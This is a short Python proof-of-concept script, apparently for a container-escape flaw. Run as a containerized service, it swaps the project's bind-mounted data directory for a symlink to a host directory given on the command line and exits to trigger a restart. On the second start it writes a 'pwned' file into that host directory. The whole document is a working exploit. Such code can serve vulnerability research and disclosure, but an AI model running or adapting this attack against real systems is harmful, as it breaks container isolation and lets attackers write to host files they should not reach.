"""Runs as a service with ./data:/data and ./:/app.  First start: replace the project's `data` with
a symlink to the victim (a host directory given as argv[1]) and exit, so the restart policy starts
the container again.  Second start: write proof into /data — it lands in the victim if the restart
followed the symlink."""

import os
import sys
import time

victim = sys.argv[1]
if not os.path.exists("/app/swapped"):
    os.rename("/app/data", "/app/data.orig")
    os.symlink(victim, "/app/data")
    open("/app/swapped", "w").close()
    sys.exit(1)
try:
    with open("/data/pwned", "w") as f:
        f.write("written by a container through a swapped bind source\n")
    print("wrote /data/pwned", flush=True)
except OSError as e:
    print(f"could not write /data/pwned: {e}", flush=True)
time.sleep(600)
